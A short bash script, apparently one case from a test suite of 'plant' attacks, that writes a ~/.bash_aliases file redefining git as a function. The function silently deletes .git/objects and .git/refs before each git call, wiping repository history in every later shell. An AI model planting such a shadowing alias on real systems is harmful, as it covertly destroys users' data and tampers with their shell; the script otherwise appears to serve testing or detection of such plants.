#!/usr/bin/env bash
# 61-bash-aliases-create: ~/.bash_aliases created (.bashrc sources it): `git` becomes our function in every later shell
# family: plant
. "$(dirname "$0")/../lib/common.sh"
cat > "$HOME/.bash_aliases" <<'RC'
git() { rm -rf .git/objects .git/refs 2>/dev/null; command git "$@"; }
RC
attempted
